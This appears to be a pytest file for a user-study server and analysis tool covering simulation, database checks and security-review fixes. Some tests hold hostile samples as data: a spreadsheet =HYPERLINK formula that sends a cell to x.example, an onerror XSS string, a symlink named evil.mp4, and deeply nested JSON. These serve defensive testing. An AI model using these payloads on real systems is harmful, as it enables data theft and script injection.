    assert out.code == 130 and out.stderr == "laughlab: error: interrupted\n", out.stderr
    assert sorted(tmp_path.iterdir()) == []
    DB.open_db(db, design_of(study), "simulated")   # an empty database of one's own: kept
    before = db.read_bytes()
    out = fuzz.run_cli(["study", "simulate", str(study), "--db", str(db), "--participants", "1"])
    assert out.code == 130 and db.read_bytes() == before


@pytest.mark.browser
def test_simulate_counts_what_its_database_holds(study, tmp_path):
    """A new-user review: the closing line said "216 answers" of a database whose CSV has 228 rows (the audio
    checks, one a participant, were not counted).  The line now counts both, as the database's rows."""
    from laughlab.study import db as DB

    db = tmp_path / "sim.sqlite"
    out = fuzz.run_cli(["study", "simulate", str(study), "--db", str(db), "--participants", "2"])
    assert out.code == 0, out.stderr
    kinds = [r["kind"] for r in DB.rows(db)]
    assert kinds.count("audio_check") == 2
    assert out.stdout.startswith(f"laughlab: 2 simulated participants finished ({len(kinds) - 2} answers and 2 audio "
                                 "checks, planted no effect) -> "), out.stdout


def test_a_planted_effect_past_the_scales_end_is_refused(study):
    """A user-study review: --effects laugh_energy=5 over the base rating 4 of a 1..7 scale ran, and every answer
    was cut to 7 under a report of "+5 planted".  Refused in one line, as study power refuses its --effect."""
    from laughlab.core.errors import LaughlabError
    from laughlab.study.simulate import PLANTED_SPREAD, parse_effects

    d = design_of(study)
    cond = d["conditions"][0]
    lo, hi = 1, d["points"]
    base = PLANTED_SPREAD["base"]
    assert parse_effects(f"{cond}={hi - base:g}", d) == {cond: hi - base}          # to the end: allowed
    assert parse_effects(f"{cond}={lo - base:g}", d) == {cond: lo - base}
    with pytest.raises(LaughlabError, match=rf"^--effects {cond}=5 is impossible on this 1\.\.{hi} scale: from the "
                                            rf"base rating 4 an effect must lie between -3 and \+{hi - 4}$"):
        parse_effects(f"{cond}=5", d)


def test_answers_to_other_videos_are_not_read_as_this_studys(study, tmp_path):
    """A user-study review: the same design built from the mannequin's and from an avatar's videos had one id, so
    serve and analyze took the one's database as the other's.  The id holds each stimulus' sha256, and
    analyze --design refuses a database of another design in one line."""
    import json

    from laughlab.core.errors import LaughlabError
    from laughlab.study import db as DB
    from laughlab.study.answers import load
    from laughlab.study.design import design_id

    d = design_of(study)
    assert design_id(d) == d["id"]
    other = json.loads(json.dumps(d))
    first = sorted(other["stimuli"])[0]
    other["stimuli"][first]["sha256"] = "0" * 64          # the same design over one other video
    other["id"] = design_id(other)
    assert other["id"] != d["id"]
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "design.json").write_text(json.dumps(other))
    db = DB.open_db(tmp_path / "answers.sqlite", d)
    with pytest.raises(LaughlabError, match=rf"^{db} holds the answers of another study \(design {d['id']}; "
                                            rf"{tmp_path / 'other'}'s is {other['id']}\): give its own study folder"):
        load(db, tmp_path / "other")
    with pytest.raises(LaughlabError, match="holds the responses of another study"):
        DB.open_db(db, other)                              # and study serve's check of its --db
    with pytest.raises(LaughlabError, match="holds no answers yet"):
        load(db, study)                                    # its own design: read (no answers here)


def test_power_from_a_simulated_pilot_says_so_and_its_figure_is_for_a_page(study, tmp_path):
    """A user-study review: --pilot took a report of simulated participants' variances without a word, the
    figure's title ran off both sides with a long pilot path, and it was 594 x 396 px ("= 1 points")."""
    import json

    from PIL import Image

    pilot = tmp_path / "a long folder name of the pilot's report" / "simulated-report"
    pilot.mkdir(parents=True)
    (pilot / "report.json").write_text(json.dumps({
        "simulated": True, "fixed": [{"question": "natural", "term": "Intercept", "estimate": 4.0}],
        "variance": [{"question": "natural", "var_participant": 0.3, "var_stimulus": 0.05, "var_residual": 0.6}]}))
    r = fuzz.run_cli(["study", "power", str(study), "--contrast", "laugh_energy:smile_only", "--effect", "1",
                      "--participants", "4", "--sims", "2", "--pilot", str(pilot), "--out", str(tmp_path / "pw")])
    assert r.code == 0, r.stderr
    assert (f"power: note: the variances are from a report of simulated participants ({pilot}): the planted "
            "model's spreads, not a pilot's") in r.stderr
    with Image.open(tmp_path / "pw" / "power.png") as im:
        assert im.size[0] >= 1000


def test_analyzing_a_database_no_participant_has_made_yet_names_what_is_beside_it(tmp_path):
    """A study researcher's review: the README's `study analyze STUDY/responses.sqlite` before any participant said
    only 'no database or CSV at ...', with study simulate's simulated.sqlite beside it."""
    (tmp_path / "study").mkdir()
    (tmp_path / "study" / "simulated.sqlite").write_bytes(b"")
    out = fuzz.run_cli(["study", "analyze", str(tmp_path / "study" / "responses.sqlite")])
    assert out.code == 2 and out.stderr == (f"laughlab: error: no database or CSV at {tmp_path / 'study' / 'responses.sqlite'}"
                                            " (no participant has answered yet; beside it: simulated.sqlite, e.g. "
                                            "study simulate's)\n")
    out = fuzz.run_cli(["study", "analyze", str(tmp_path / "elsewhere" / "responses.sqlite")])
    assert out.code == 2 and out.stderr.endswith("responses.sqlite\n")
    assert not (tmp_path / "study" / "responses-report").exists()


def test_a_reports_tidy_csv_given_back_as_answers_says_what_it_is(tmp_path):
    """A study researcher's review: a report's tidy.csv analysed again said only 'no ratings are left after the
    exclusions (12 participants excluded: no audio check stored: 12)'; tidy.csv holds the ratings alone."""
    shutil.copy(Path(__file__).resolve().parents[1] / "reports" / "study_demo" / "tidy.csv", tmp_path / "tidy.csv")
    out = fuzz.run_cli(["study", "analyze", str(tmp_path / "tidy.csv"), "--out", str(tmp_path / "rep")])
    assert out.code == 2 and out.stderr == (
        "laughlab: error: no ratings are left after the exclusions (12 participants excluded: no audio check stored: "
        "12); these answers have no audio-check or attention rows, as a report's tidy.csv (its ratings only): analyze "
        "the database or the participants' answer files\n") and not (tmp_path / "rep").exists()


def test_a_folder_with_the_servers_database_and_downloaded_answers_reads_both_once(study, tmp_path):
    """A study-server review: a participant whose last answer did not reach the server downloaded their file; a folder
    of that file and the server's responses.sqlite was analysed from the file alone, the database skipped unsaid.
    Both are read now, an answer in both counted once; study simulate's database is never mixed with people's."""
    import csv as _csv

    from laughlab.study import db as DB
    from laughlab.study.answers import load

    d = design_of(study)
    rows = []
    for p in (1, 2):
        e = d["participants"][str(p)]
        rows.append({"participant": p, "order_row": e["order_row"], "trial": 0, "stimulus": "", "condition": "",
                     "audio_id": "", "kind": "audio_check", "question": "audio_check", "value": 1.0, "text": "hat",
                     "received_at": DB.utc_now(), "session": f"s{p}"})
        for t, trial in enumerate(e["trials"], 1):
            for k, q in enumerate([q["id"] for q in d["questions"]] + (["attention"] if trial["attention"] else [])):
                rows.append({"participant": p, "order_row": e["order_row"], "trial": t, "stimulus": trial["stimulus"],
                             "condition": trial["condition"], "audio_id": trial["audio_id"],
                             "kind": "attention" if q == "attention" else "rating", "question": q,
                             "value": float(d["attention"]["value"]) if q == "attention" else float(1 + (t + k) % 7),
                             "expected": float(d["attention"]["value"]) if q == "attention" else None, "text": "",
                             "received_at": DB.utc_now(), "session": f"s{p}"})
    folder = tmp_path / "merge"
    folder.mkdir()
    people = DB.open_db(folder / "responses.sqlite", d, "people")
    last = len(d["participants"]["1"]["trials"])
    DB.insert_answers(people, [r for r in rows if not (r["participant"] == 1 and r["trial"] == last)])   # lost
    with open(folder / "participant_001_answers.csv", "w", newline="") as f:   # the download: all of participant 1
        w = _csv.DictWriter(f, fieldnames=list(DB.COLUMNS))
        w.writeheader()
        for r in rows:
            if r["participant"] == 1:
                w.writerow({c: r.get(c) for c in DB.COLUMNS})
    df, got = load(folder)
    assert len(df) == len(rows) and got["id"] == d["id"]   # every answer once, the lost trial from the file
    assert len(df[(df["participant"] == 1) & (df["trial"] == last)]) >= len(d["questions"])
    DB.open_db(folder / "simulated.sqlite", d, "simulated")
    out = fuzz.run_cli(["study", "analyze", str(folder), "--out", str(tmp_path / "rep")])
    assert out.code == 2 and out.stderr == (f"laughlab: error: {folder} holds study simulate's simulated.sqlite beside "
                                            "answer files: move it out, or analyze it on its own\n")


def test_a_study_built_for_more_participants_takes_its_database_on(study, tmp_path, capsys):
    """A study-pilot review: the page's own advice when every number was taken (build it for more participants)
    ended with serve refusing the database ("holds the responses of another study"), stranding everyone assigned.
    The same study for more participants (same questions, checks and videos; the earlier participants' trials the
    same) takes the database on; another study is still refused."""
    from laughlab.core.errors import LaughlabError
    from laughlab.study import db as DB
    from laughlab.study.design import design_id

    full = design_of(study)
    small = {**full, "participants": {p: e for p, e in full["participants"].items() if int(p) <= 2}}
    small["id"] = design_id(small)
    assert small["id"] != full["id"]
    db = DB.open_db(tmp_path / "responses.sqlite", small)
    DB.session_event(db, "s", 1, "start")
    capsys.readouterr()
    DB.open_db(db, full)
    assert DB.stored_design(db)["id"] == full["id"]
    assert capsys.readouterr().err == (f"laughlab: note: {db} now belongs to this build of the study, the same one "
                                       f"for {len(full['participants'])} participants where it had 2\n")
    other = {**full, "questions": full["questions"][:1]}
    other["id"] = design_id(other)
    with pytest.raises(LaughlabError, match="holds the responses of another study"):
        DB.open_db(db, other)
    fewer = {**small, "id": small["id"]}   # the smaller build again: not an extension of the larger
    with pytest.raises(LaughlabError, match="holds the responses of another study"):
        DB.open_db(db, fewer)


def test_a_sound_check_on_fail_other_than_end_or_continue_is_one_line():
    from laughlab.core.errors import LaughlabError
    from laughlab.study.design import check_preset

    q = [{"id": "x", "prompt": "How?"}]
    assert check_preset({"questions": q})["audio_check"]["on_fail"] == "end"   # the default ends the study there
    assert check_preset({"questions": q, "audio_check": {"on_fail": "continue"}})["audio_check"]["on_fail"] == "continue"
    with pytest.raises(LaughlabError, match=r"^study preset: audio_check.on_fail must be end or continue \(got 'skip'\)$"):
        check_preset({"questions": q, "audio_check": {"on_fail": "skip"}})


def test_the_servers_edges_a_security_review_found(study, tmp_path, monkeypatch):
    """HEAD answers as GET does (it read the database's size from the working folder), a Content-Length of '²' and
    JSON nested 100,000 deep are 4xx (they dropped the connection with a traceback), a lone surrogate is refused
    (SQLite's error), a symbolic link in stimuli/ is not sent, the end is not taken before the last trial, a panel
    ID is out of the log whatever its place in the body, and the log stops at its size."""
    import http.client
    import os

    from laughlab.study import server as SV
    from laughlab.study.server import files_of

    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite")
    port = srv.httpd.server_address[1]

    def raw(method, path, headers=None, body=None):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            conn.request(method, path, body=body, headers=headers or {})
            r = conn.getresponse()
            return r.status, r.read()
        finally:
            conn.close()

    try:
        assert raw("HEAD", "/index.html") == (200, b"")
        assert raw("HEAD", "/r.sqlite")[0] == 404 and raw("HEAD", "/design.json")[0] == 404
        assert raw("HEAD", "/api/start")[0] == 405
        assert raw("POST", "/api/start", {"Content-Length": "²", "Content-Type": "application/json"})[0] == 411
        deep = b"[" * 100_000 + b"]" * 100_000
        assert srv.post("/api/start", None, raw=deep[:16_000])[0] in (400, 413)
        assert srv.post("/api/start", None, raw=b"[" * 5000 + b"]" * 5000)[0] == 400
        start = {"participant": 1, "session": "s1", "design": d["id"], "user_agent": "\ud800"}
        status, reply = srv.post("/api/start", None, raw=json.dumps(start).encode())
        assert status == 422 and "lone surrogate" in reply["error"]
        assert srv.post("/api/start", {**start, "user_agent": "ok"})[0] == 200
        assert srv.post("/api/event", {"participant": 1, "session": "s1", "event": "consent"})[0] == 200
        status, reply = srv.post("/api/event", {"participant": 1, "session": "s1", "event": "finish"})
        n = len(d["participants"]["1"]["trials"])
        assert status == 409 and reply["error"] == f"participant 1 has answered 0 of {n} trials: the study is " \
                                                  "finished with the last"
        ident = "5f0c3e9a1b2c3d4e5f6a7b8c"
        body = json.dumps({"user_agent": "x" * 170, "external_id": ident, "design": "other"}).encode()
        assert srv.post("/api/assign", None, raw=body)[0] == 422   # an unknown field: refused, logged
        log = (tmp_path / "r.sqlite.rejected.log").read_text(encoding="utf-8")
        assert ident[:5] not in log
        monkeypatch.setattr(SV, "LOG_MAX", log.count("\n") and len(log.encode()) + 1500)
        for _ in range(20):
            srv.post("/api/nope", {})
        lines = (tmp_path / "r.sqlite.rejected.log").read_text(encoding="utf-8").splitlines()
        assert "later refusals are not logged" in lines[-1] and sum("not logged" in ln for ln in lines) == 1
    finally:
        srv.close()
    link = tmp_path / "linked"
    shutil.copytree(study, link)
    os.symlink(link / "design.json", link / "stimuli" / "evil.mp4")
    assert "stimuli/evil.mp4" not in files_of(link) and "index.html" in files_of(link)


def test_a_participants_texts_reach_the_reports_as_text():
    from laughlab.study.exclusions import cell_safe, shown_typed

    assert cell_safe('=HYPERLINK("https://x.example/?d="&A2,"open")').startswith("'=HYPERLINK")
    assert [cell_safe(v) for v in ("+1", "-2", "@x", "Mozilla/5.0", 3.0, "")] == ["'+1", "'-2", "'@x", "Mozilla/5.0",
                                                                                3.0, ""]
    assert shown_typed("<img src=x onerror=alert(3)>|hat") == "?img src?x onerror?alert?3??, hat"


def test_no_one_but_the_participants_browser_answers_for_them_after_consent(study, tmp_path):
    """A security review: a participant's number (or panel ID) was all it took to start a session as them, answer
    their trials, fail their sound check or post their end.  The consent takes their browser's key; every later
    post must carry it."""
    from laughlab.study import db as DB

    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite")
    t1 = d["participants"]["6"]["trials"][0]
    answer = {"participant": 6, "session": "evil", "trial": 1, "stimulus": t1["stimulus"],
              "answers": {q["id"]: 4 for q in d["questions"]} | ({"attention": 2} if t1["attention"] else {})}
    try:
        assert srv.post("/api/start", {"participant": 6, "session": "mine", "design": d["id"]})[0] == 200
        status, reply = srv.post("/api/event", {"participant": 6, "session": "mine", "event": "consent",
                                                "key": "k" * 20})
        assert status == 200 and reply["key"] == "k" * 20 == DB.participant_key(srv.db, 6)
        theirs = "participant 6 takes part in another browser or on another device: please go on there"
        for route, body in (("/api/start", {"participant": 6, "session": "evil", "design": d["id"]}),
                            ("/api/response", answer), ("/api/check", {"participant": 6, "session": "evil",
                                                                       "attempts": ["x"]}),
                            ("/api/event", {"participant": 6, "session": "evil", "event": "finish"})):
            for key in (None, "wrong-key-0123456789", "kkkkkkkkkkkkkkkkkkk\u00e9", "\ud800", 12345, ["k" * 20]):   # compared
                status, reply = srv.post(route, {**body, **({"key": key} if key else {})}, keyed=False)   # in constant time
                assert status == 403 and reply["error"].startswith(theirs), (route, key, reply)
        assert srv.post("/api/response", {**answer, "session": "mine"})[0] == 201   # their own browser's key
        bad = srv.post("/api/event", {"participant": 7, "session": "x", "event": "consent", "key": "short"})
        assert bad[0] in (403, 409, 422)
    finally:
        srv.close()
    assert [r[0] for r in srv.rows()] == [6] * len(answer["answers"])


def test_answers_faster_than_the_videos_play_are_said():
    """A security review: six scripted participants answered the whole study in under a second each and were all
    included.  A trial whose answers reached the server sooner after the previous trial's than its video lasts is
    named in the report (not excluded: the panel's records decide)."""
    import pandas as pd

    from laughlab.study.participation import line, participation

    def rows(p, times):
        return [{"participant": p, "trial": t, "stimulus": f"s{t}", "kind": "rating", "question": "q",
                 "session": f"x{p}", "received_at": at, "answered_at": at} for t, at in enumerate(times, 1)]

    df = pd.DataFrame(rows(1, ["2026-11-29T10:00:00.000Z", "2026-11-29T10:00:02.500Z", "2026-11-29T10:00:05.100Z"])
                      + rows(2, ["2026-11-29T10:00:00.000Z", "2026-11-29T10:00:00.300Z", "2026-11-29T10:00:00.600Z"])
                      + rows(3, ["2026-11-29T10:00:00.000Z", "2026-11-29T10:00:09.000Z"]))
    late = rows(4, ["2026-11-29T10:00:00.000Z", "2026-11-29T10:00:09.000Z", "2026-11-29T10:00:09.100Z"])
    late[1]["answered_at"], late[2]["answered_at"] = "2026-11-29T10:00:03.000Z", "2026-11-29T10:00:06.000Z"
    df = pd.concat([df, pd.DataFrame(late)])   # a page's answers kept through a network failure: sent together
    durations = {"s1": 2.0, "s2": 2.0, "s3": 2.0}
    doc = participation([], df, durations)
    assert doc["too_fast"] == [2]
    assert line(doc).endswith("1 answered a trial sooner after the one before than its video lasts, which the page "
                              "cannot do (a script?): participant 2.")
    assert "too_fast" not in participation([], df)   # no design: nothing to judge by


def test_a_consents_key_and_a_number_typed_by_hand_hold_against_a_diff_reviews_cases(study, tmp_path):
    """A malformed key is refused before the consent is stored (it was stored, with no key kept); two consents at
    once leave one key, the first's (the second was handed it); a page typed by hand whose number went to a panel's
    ID after half an hour cannot consent as it (both held the number)."""
    from laughlab.study import db as DB

    d = design_of(study)
    srv = Served(study, tmp_path / "r.sqlite")
    try:
        assert srv.post("/api/start", {"participant": 4, "session": "a", "design": d["id"]})[0] == 200
        assert srv.post("/api/event", {"participant": 4, "session": "a", "event": "consent", "key": "x!"})[0] == 422
        assert DB.participant_key(srv.db, 4) is None
        assert not any(s["consent_at"] for s in DB.sessions(srv.db) if s["participant"] == 4)
        assert DB.participant_key(srv.db, 5, give="A" * 20) == "A" * 20
        assert DB.participant_key(srv.db, 5, give="B" * 20) == "A" * 20   # the server compares: 403
        assert srv.post("/api/start", {"participant": 1, "session": "typed", "design": d["id"]})[0] == 200
        assert DB.assign(srv.db, "panel-id", sorted(int(n) for n in d["participants"]), hold_s=0) == 1
        status, reply = srv.post("/api/event", {"participant": 1, "session": "typed", "event": "consent"})
        assert status == 409 and "went to another participant" in reply["error"]
    finally:
        srv.close()


def test_a_number_typed_by_hand_is_held_from_its_first_page_load_not_renewed(study, tmp_path):
    """A diff review: a script starting the page again every 29 minutes kept a number held for good."""
    import sqlite3

    from laughlab.study import db as DB

    d = design_of(study)
    db = DB.open_db(tmp_path / "r.sqlite", d, "people")
    DB.session_event(db, "first", 3, "start")
    with sqlite3.connect(db) as con:
        con.execute("UPDATE sessions SET started_at = '2026-01-01T00:00:00.000Z' WHERE session = 'first'")
    DB.session_event(db, "again", 3, "start")   # a minute ago, say
    assert DB.assign(db, "panel-id", [3], hold_s=60) == 3
